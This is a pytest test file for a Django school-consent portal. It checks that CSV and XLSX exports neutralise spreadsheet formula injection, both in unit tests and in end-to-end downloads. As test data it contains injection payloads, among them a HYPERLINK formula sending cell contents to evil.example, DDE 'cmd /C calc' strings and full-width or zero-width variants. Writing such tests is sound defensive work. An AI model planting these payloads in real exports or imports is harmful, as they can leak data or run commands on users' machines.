"""No CSV or XLSX file of the portal carries a formula into a spreadsheet program
(consents/reports/spreadsheets.py): the writer itself, then every download end to end."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.translation import gettext_lazy
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from consents.models import ExportJob, ImportRun, Student
from consents.reports.exports import Kind
from consents.reports.spreadsheets import CONTENT_TYPES, safe_cell, spreadsheet

from .helpers import amsterdam, record

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

# What a spreadsheet program reads as the start of a formula, also in full width (the brief
# of the test, stated apart from consents/reports/spreadsheets.py so that it checks the module).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Full-width forms, which Excel can take for = + - @, and others that normalise to them.
WIDE_PAYLOADS = [
    '\uff1dHYPERLINK("http://evil.example")',  # ＝
    "\uff0bcmd|' /C calc'!A0",  # ＋
    "\uff0d2+3",  # －
    "\uff20SUM(1+1)",  # ＠
    "\ufe661+1",  # ﹦ small equals sign
    "\u207c1+1",  # ⁼ superscript equals sign
]
# What a spreadsheet program may skip before it looks for the formula's sign.
HIDDEN_START_PAYLOADS = [
    " =1+1",
    "   +1",
    "\n=1+1",
    "\xa0-1",  # no-break space
    "\u3000\uff1d1+1",  # ideographic (full-width) space, then ＝
    "\u200b=1+1",  # zero-width space
    "\ufeff@SUM(1)",  # byte-order mark
]


def starts_like_a_formula(value) -> bool:
    return isinstance(value, str) and (
        value.startswith(TRIGGERS) or value.lstrip().startswith(TRIGGERS)
    )


def write(fmt: str, header, rows) -> bytes:
    buffer = io.BytesIO()
    with spreadsheet(fmt, buffer) as book:
        sheet = book.sheet("Export")
        sheet.append(header)
        for row in rows:
            sheet.append(row)
    return buffer.getvalue()


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def read_xlsx(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("payload", PAYLOADS + WIDE_PAYLOADS + HIDDEN_START_PAYLOADS)
def test_a_cell_that_starts_like_a_formula_is_made_inert(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        "Zoë de Vries",
        "van der Berg",
        "Özdemir",
        "山田",
        "<5",  # the report's marks of hidden counts
        "–",
        "×",
        "a=b",
        "2026-10-01T10:00:00+02:00",
        "",
        " ",
        12,
        -5,
        -2.5,
        None,
        dt.date(2026, 9, 1),
    ],
)
def test_ordinary_values_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_lazy_translation_is_written_as_its_text():
    assert safe_cell(gettext_lazy("yes")) == "yes"


def test_a_csv_export_neutralises_every_payload_and_keeps_the_rest():
    payloads = PAYLOADS + WIDE_PAYLOADS + HIDDEN_START_PAYLOADS
    rows = [[payload, "Zoë", -3] for payload in payloads]
    parsed = read_csv(write("csv", ["name", "first name", "count"], rows))
    assert parsed[0] == ["name", "first name", "count"]
    for payload, row in zip(payloads, parsed[1:], strict=True):
        assert row == ["'" + payload, "Zoë", "-3"]


def test_an_xlsx_export_holds_no_formula_and_keeps_numbers_and_dates():
    payloads = PAYLOADS + WIDE_PAYLOADS + HIDDEN_START_PAYLOADS
    rows = [[payload, -7, 2.5, dt.date(2026, 9, 1)] for payload in payloads]
    parsed = read_xlsx(write("xlsx", ["name", "count", "share", "date"], rows))
    for payload, row in zip(payloads, parsed[1:], strict=True):
        assert row[0] == ("'" + payload.replace("\r", "\n"), "s")  # XLSX stores \r as \n
        assert row[1] == (-7, "n") and row[2] == (2.5, "n")
        assert row[3][0].date() == dt.date(2026, 9, 1) and row[3][1] == "d"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_rows_written_together_are_checked_as_rows_written_one_by_one(fmt):
    payloads = PAYLOADS + WIDE_PAYLOADS + HIDDEN_START_PAYLOADS
    rows = [[payload, "Zoë", -3] for payload in payloads]
    together = io.BytesIO()
    with spreadsheet(fmt, together) as book:
        book.sheet("Export").extend(rows)
    one_by_one = write(fmt, ["name", "first name", "count"], rows)
    if fmt == "csv":
        assert read_csv(together.getvalue()) == read_csv(one_by_one)[1:]
    else:
        assert read_xlsx(together.getvalue()) == read_xlsx(one_by_one)[1:]


TRICKY = st.sampled_from(list("=+-@\t\r\n \xa0\u3000\u200b\ufeff\x00\uff1d\uff0b\uff0d\uff20"))


# No deadline: on the shared machine one example took 255 ms (12 ms when run again), and a
# timing failure says nothing about formulas.
@settings(deadline=None)
@given(
    st.lists(
        st.text(st.one_of(TRICKY, st.characters(exclude_categories=["Cs"])), max_size=40),
        min_size=1,
        max_size=5,
    )
)
def test_no_text_at_all_reaches_a_spreadsheet_as_a_formula(texts):
    for row in read_csv(write("csv", ["h"] * len(texts), [texts]))[1:]:
        for cell in row:
            assert not starts_like_a_formula(cell)
    for row in read_xlsx(write("xlsx", ["h"] * len(texts), [texts]))[1:]:
        for value, data_type in row:
            assert data_type != "f"
            assert not starts_like_a_formula(value)


def test_a_control_character_in_front_of_a_formula_does_not_smuggle_it_into_xlsx():
    parsed = read_xlsx(write("xlsx", ["name"], [["\x00=1+1"], ["Zo\x0bë"]]))
    assert parsed[1] == [("'=1+1", "s")]
    assert parsed[2] == [("Zoë", "s")]
    assert read_csv(write("csv", ["name"], [["\x00=1+1"]]))[1] == ["'\x00=1+1"]


# --- End to end: names from the school's records, downloaded by the people who use them -----

HOSTILE = {
    "roepnaam": '=HYPERLINK("http://127.0.0.1/x","click")',
    "tussenvoegsel": "\uff1d1+1",  # ＝1+1
    "achternaam": "@SUM(1+1)",
    "klas": "\uff0b1a",  # ＋1a
    "ouder1_roepnaam": "+cmd -2+3",
    "ouder1_achternaam": "\uff0d2+3",  # －2+3
}
IMPORT_HEADER = [
    "leerlingnummer",
    "roepnaam",
    "tussenvoegsel",
    "achternaam",
    "geboortedatum",
    "klas",
    "ouder1_roepnaam",
    "ouder1_achternaam",
    "ouder1_e-mail",
]


def cells(fmt: str, content: bytes) -> list[tuple]:
    """Every cell of every sheet as (value, openpyxl data type); None as the type for CSV."""
    if fmt == "csv":
        return [(value, None) for row in read_csv(content) for value in row]
    workbook = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def assert_inert(found: list[tuple]) -> None:
    for value, data_type in found:
        assert data_type != "f", value
        assert not starts_like_a_formula(value), value


@pytest.fixture
def in_october_2026():
    with time_machine.travel(amsterdam(2026, 10, 1, 10), tick=False):
        yield


def download(response, fmt: str) -> bytes:
    assert response.status_code == 200, response
    assert response["Content-Type"] == CONTENT_TYPES[fmt]
    assert response["Content-Disposition"].startswith("attachment")
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.fixture
def imported(client, in_october_2026, administrator, school, website, photo, private_media):
    """A student and guardian named like formulas, imported through the import page, with a
    paper form the guardian handed in."""
    client.force_login(administrator)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(IMPORT_HEADER)
    writer.writerow(
        [
            "900001",
            HOSTILE["roepnaam"],
            HOSTILE["tussenvoegsel"],
            HOSTILE["achternaam"],
            "09-01-2014",
            HOSTILE["klas"],
            HOSTILE["ouder1_roepnaam"],
            HOSTILE["ouder1_achternaam"],
            "ouder@example.org",
        ]
    )
    client.post(
        reverse("import_start"),
        {
            "format": ImportRun.Format.STUDENTS,
            "school": school.pk,
            "file": SimpleUploadedFile("leerlingen.csv", buffer.getvalue().encode("utf-8")),
        },
    )
    client.post(reverse("import_apply", args=[ImportRun.objects.get().token]))
    student = Student.objects.get(student_number="900001")
    guardian = student.guardians.get()
    # The import keeps the names as given: the downloads are what must make them inert.
    assert (student.first_name, student.prefix, student.last_name, student.group.name) == (
        HOSTILE["roepnaam"],
        HOSTILE["tussenvoegsel"],
        HOSTILE["achternaam"],
        HOSTILE["klas"],
    )
    assert (guardian.first_name, guardian.last_name) == (
        HOSTILE["ouder1_roepnaam"],
        HOSTILE["ouder1_achternaam"],
    )
    response = client.post(
        reverse("paper_record", args=[student.key]),
        {
            "method": "paper",
            "guardian": guardian.pk,
            "note": "Formulier",
            "scan": SimpleUploadedFile("scan.pdf", b"%PDF-1.4\n%%EOF\n"),
            f"answer_{website.id}_{photo.id}": "granted",
        },
    )
    assert response.status_code == 302
    return student


def register_download(client, kind: str, fmt: str) -> bytes:
    data = {"kind": kind, "format": fmt, "start": "2026-09-01"}
    return download(client.post(reverse("register_export"), data), fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", [Kind.REGISTER_STATUS, Kind.REGISTER_EVENTS])
def test_imported_names_reach_every_register_download_as_text(client, imported, kind, fmt):
    found = cells(fmt, register_download(client, kind, fmt))
    assert_inert(found)
    values = {value for value, _type in found}
    names = [HOSTILE["roepnaam"], HOSTILE["tussenvoegsel"], HOSTILE["achternaam"]]
    names.append(f"{HOSTILE['ouder1_roepnaam']} {HOSTILE['ouder1_achternaam']}")  # who decided
    if kind == Kind.REGISTER_STATUS:
        names.append(HOSTILE["klas"])
    for name in names:
        # "Who decided" reads "name (guardian)": the cell starts with the name.
        assert any(value.startswith("'" + name) for value in values if isinstance(value, str))


def test_a_background_register_export_is_as_inert(
    client, settings, imported, eager_celery, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_ROWS = 0
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("register_export"),
            {"kind": Kind.REGISTER_EVENTS, "format": "xlsx", "start": "2026-09-01"},
        )
    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.DONE
    response = client.get(reverse("export_job_download", args=[job.token]))
    found = cells("xlsx", download(response, "xlsx"))
    assert_inert(found)
    assert "'" + HOSTILE["roepnaam"] in {value for value, _type in found}
    numbers = [value for value, data_type in found if data_type == "n"]
    assert numbers  # the decision's number stays a number


@pytest.fixture
def board_names_like_formulas(in_october_2026, board, school, website, photo, child, mother):
    """Board, school, purpose and media type names typed in the admin by the board's own
    staff, like formulas, and one answer under them."""
    board.name = "@SUM(1+1)"
    board.save()
    school.name = '=HYPERLINK("http://127.0.0.1/x","click")'
    school.save()
    website.name_en = "+cmd -2+3"
    website.save()
    photo.name_en = " \uff1dphoto"
    photo.save()
    record(mother.user, child, website, photo)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_names_typed_by_the_board_reach_the_register_as_text(
    client, board_names_like_formulas, administrator, school, website, fmt
):
    # The current status checks each name once, not on each of its rows: checked all the same.
    client.force_login(administrator)

    found = cells(fmt, register_download(client, Kind.REGISTER_STATUS, fmt))

    assert_inert(found)
    values = {value for value, _type in found}
    assert {"'" + school.name, "'" + website.name_en, "' \uff1dphoto"} <= values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_council_report_downloads_hold_no_formula(
    client, board_names_like_formulas, council_member, board, school, website, fmt
):
    client.force_login(council_member)

    response = client.get(reverse("council_report_download", args=[fmt]), {"school": school.pk})

    found = cells(fmt, download(response, fmt))
    assert_inert(found)
    values = {value for value, _type in found}
    assert "'" + school.name in values and "'" + website.name_en in values
    assert "' \uff1dphoto" in values
    if fmt == "xlsx":
        assert "'" + board.name in values  # on the sheet about the report
        assert any(data_type == "n" for _value, data_type in found)  # counts stay numbers
